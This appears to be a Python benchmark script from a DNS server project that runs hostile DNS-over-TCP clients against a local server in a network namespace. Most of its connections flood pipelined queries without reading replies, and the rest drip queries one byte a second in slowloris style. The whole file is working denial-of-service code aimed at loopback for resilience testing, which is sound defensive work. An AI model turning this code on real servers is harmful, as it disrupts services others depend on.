#!/usr/bin/env python3
"""Hostile DNS-over-TCP clients for bench/hostile: run inside the bench's network namespace.

usage: attack.py PORT SECONDS PIPELINERS SLOWLORIS

For SECONDS, PIPELINERS connections (25 per source address from 127.0.1.1 up) send queries as
fast as the socket takes them and never read an answer (a receive buffer of 4 KiB), and
SLOWLORIS connections (25 per address from 127.0.2.1 up) send one byte of a query a second.
A connection serve closes is opened again at once, as an attacker would. Prints, at the end, how
many connections each kind opened and how many queries the pipeliners sent.
"""
import resource
import selectors
import socket
import struct
import sys
import time

PER_ADDRESS = 25
NAME = b"\x03web\x07default\x03svc\x07cluster\x05local\x00"


def query(ident):
    message = struct.pack("!HHHHHH", ident & 0xFFFF, 0x0100, 1, 0, 0, 0) + NAME + b"\0\1\0\1"
    return struct.pack("!H", len(message)) + message


BURST = b"".join(query(i) for i in range(64))


class Attack:
    def __init__(self, port):
        self.port = port
        self.selector = selectors.DefaultSelector()
        self.opened = {"pipeliner": 0, "slowloris": 0}
        self.failed = 0
        self.queries_sent = 0

    def open(self, kind, source):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.setblocking(False)
        try:
            sock.bind((source, 0))
            sock.connect_ex(("127.0.0.1", self.port))
        except OSError:
            sock.close()
            self.failed += 1
            return
        self.opened[kind] += 1
        state = {"kind": kind, "source": source, "offset": 0}
        events = selectors.EVENT_WRITE if kind == "pipeliner" else selectors.EVENT_READ
        self.selector.register(sock, events, state)

    def reopen(self, sock, state):
        self.selector.unregister(sock)
        sock.close()
        self.open(state["kind"], state["source"])

    def pump(self, sock, state):
        """A pipeliner may write: as much as the socket takes."""
        try:
            sent = sock.send(BURST[state["offset"]:] or BURST)
        except BlockingIOError:
            return
        except OSError:
            return self.reopen(sock, state)
        state["offset"] = (state["offset"] + sent) % len(BURST)
        self.queries_sent += sent // 49

    def closed(self, sock):
        try:
            return sock.recv(4096, socket.MSG_PEEK) == b""
        except BlockingIOError:
            return False
        except OSError:
            return True

    def run(self, seconds, pipeliners, slowloris):
        for i in range(pipeliners):
            self.open("pipeliner", f"127.0.1.{i // PER_ADDRESS + 1}")
        for i in range(slowloris):
            self.open("slowloris", f"127.0.2.{i // PER_ADDRESS + 1}")
        end = time.monotonic() + seconds
        next_drip = time.monotonic()
        one_query = query(7)
        while time.monotonic() < end:
            for key, events in self.selector.select(timeout=0.1):
                sock, state = key.fileobj, key.data
                if state["kind"] == "pipeliner":
                    if events & selectors.EVENT_WRITE:
                        self.pump(sock, state)
                elif self.closed(sock):
                    self.reopen(sock, state)
            if time.monotonic() >= next_drip:  # every slowloris sends its next byte
                next_drip += 1
                for key in list(self.selector.get_map().values()):
                    sock, state = key.fileobj, key.data
                    if state["kind"] != "slowloris":
                        continue
                    try:
                        sock.send(one_query[state["offset"]:state["offset"] + 1])
                        state["offset"] = (state["offset"] + 1) % len(one_query)
                    except BlockingIOError:
                        pass
                    except OSError:
                        self.reopen(sock, state)
            # Pipeliners serve closed show up as errors on their next send; ones that are merely
            # blocked stay registered for writing.
        for key in list(self.selector.get_map().values()):
            key.fileobj.close()
        print(f"pipeliner connections opened {self.opened['pipeliner']}, slowloris connections "
              f"opened {self.opened['slowloris']}, failed opens {self.failed}, pipelined queries "
              f"sent {self.queries_sent}")


def main():
    port, seconds, pipeliners, slowloris = (int(x) for x in sys.argv[1:5])
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    Attack(port).run(seconds, pipeliners, slowloris)


if __name__ == "__main__":
    main()
